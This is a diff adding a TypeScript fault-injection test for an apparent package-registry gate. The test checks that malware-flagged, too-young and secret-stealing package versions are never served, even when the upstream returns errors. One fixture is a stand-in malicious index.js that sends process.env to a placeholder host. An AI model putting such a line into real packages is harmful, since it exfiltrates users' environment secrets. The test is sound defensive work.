@@ -1,0 +1,98 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { gating, malware, NOW } from '../../../test/gating.ts';
+import type { Answered } from '../../../test/gating.ts';
+import { tarball } from '../../../test/registry.ts';
+import type { FakePackage, FakeVersion } from '../../../test/registry.ts';
+
+const open = gating();
+const ROUNDS = 80;
+
+/** The same faults each time: what was found once is found again. */
+function dice(seed: number): <T>(of: readonly [T, ...T[]]) => T {
+  let state = seed;
+  return of => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
+    return of[Math.floor((state / 2 ** 32) * of.length)] ?? of[0];
+  };
+}
+
+const thief = { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` };
+const harmless = { 'index.js': 'exports.a = 1;\n' };
+const bytesOf = (name: string, version: string, files: object): Buffer => tarball({ 'package.json': { name, version }, ...files });
+
+/** Packages of which a version must never pass, and the bytes of it. */
+const REFUSED = [
+  { name: 'bad', version: '6.6.6', bytes: bytesOf('bad', '6.6.6', harmless) },
+  { name: 'thief', version: '6.6.6', bytes: bytesOf('thief', '6.6.6', thief) },
+  { name: 'young', version: '6.6.6', bytes: bytesOf('young', '6.6.6', harmless) },
+];
+
+function packageWith(name: string, roll: ReturnType<typeof dice>): FakePackage {
+  const publishedAt = name === 'young' ? new Date(NOW - 1000).toISOString() : '2025-01-01T00:00:00.000Z';
+  const archive = roll<FakeVersion['archive']>([
+    undefined,
+    undefined,
+    'corrupt',
+    'truncated',
+    { status: 500 },
+    { status: 404 },
+    { status: 403 },
+  ]);
+  const bad: FakeVersion = { publishedAt, files: name === 'thief' ? thief : harmless, ...(archive !== undefined && { archive }) };
+  const encoding = roll<FakePackage['encoding']>([undefined, undefined, undefined, 'gzip', 'br', 'zstd', 'broken']);
+  const answer = roll<FakePackage['answer']>([undefined, undefined, undefined, undefined, 500, 403, '', '{', '[]', '{"name":"other"}']);
+  const strip = roll([[], [], ['time'], ['dist.integrity'], ['dist.integrity', 'dist.shasum'], ['time', 'dist.shasum']]);
+  return {
+    versions: { '1.0.0': { files: harmless, publishedAt: '2025-01-01T00:00:00.000Z' }, '6.6.6': bad },
+    strip,
+    ...(encoding !== undefined && { encoding }),
+    ...(answer !== undefined && { answer }),
+  };
+}
+
+describe('whatever fails upstream', () => {
+  it(`lets nothing pass that is refused, in ${ROUNDS} rounds of faults`, async () => {
+    const roll = dice(20_260_901);
+    const packages = Object.fromEntries(REFUSED.map(({ name }) => [name, packageWith(name, roll)]));
+    const { ask, upstream, at } = await open({ packages, records: [malware('bad', '6.6.6')] });
+    const seen = new Map<number, number>();
+    const count = ({ status }: Answered): void => void seen.set(status, (seen.get(status) ?? 0) + 1);
+    for (let round = 0; round < ROUNDS; round += 1) {
+      // Beyond the time for which a document is not asked for again, and within the age of the records and of the young version.
+      at(new Date(NOW + round * 30_000).toISOString());
+      for (const { name } of REFUSED) upstream.set(name, packageWith(name, roll));
+      for (const { name, version, bytes } of REFUSED) {
+        const accept = roll(['application/json', 'application/vnd.npm.install-v1+json', '*/*']);
+        const agent = roll(['npm/11.0.0', 'pnpm/10.0.0', 'Bun/1']);
+        const archive = await ask(`${name}/-/${name}-${version}.tgz`, { 'user-agent': agent });
+        const document = await ask(name, { accept, 'user-agent': agent });
+        const manifest = await ask(`${name}/${version}`);
+        for (const answer of [archive, document, manifest]) count(answer);
+        assert.ok([403, 404].includes(archive.status), `round ${round}: ${name} was answered with ${archive.status}`);
+        assert.ok(!archive.body.includes(bytes.subarray(20)), `round ${round}: bytes of ${name}`);
+        // What its code does is known only once it was examined; what is known and what is young, at once.
+        if (name === 'thief') continue;
+        assert.ok([403, 404].includes(manifest.status), `round ${round}: ${name} ${manifest.status}`);
+        if (document.status !== 200) continue;
+        assert.equal(document.json('versions', version), undefined, `round ${round}: ${name} is listed`);
+        assert.ok(!Object.values(Object(document.json('dist-tags'))).includes(version), `round ${round}: ${name} has a tag`);
+      }
+    }
+    // Faults that break everything would prove nothing: some answers are good.
+    assert.ok((seen.get(200) ?? 0) > ROUNDS / 2 && (seen.get(403) ?? 0) > ROUNDS, JSON.stringify([...seen]));
+  });
+
+  it('is over when it is over: the next request is answered as if nothing had been', async () => {
+    const good: FakePackage = { versions: { '1.0.0': { files: harmless } } };
+    const { ask, upstream, at } = await open({ packages: { plain: { ...good, answer: 500 } } });
+    assert.equal((await ask('plain')).status, 403);
+    upstream.set('plain', { versions: { '1.0.0': { files: harmless, archive: 'truncated' } } });
+    at(new Date(NOW + 30_000).toISOString());
+    assert.equal((await ask('plain')).status, 200);
+    assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 403);
+    upstream.set('plain', good);
+    assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 200);
+  });
+});
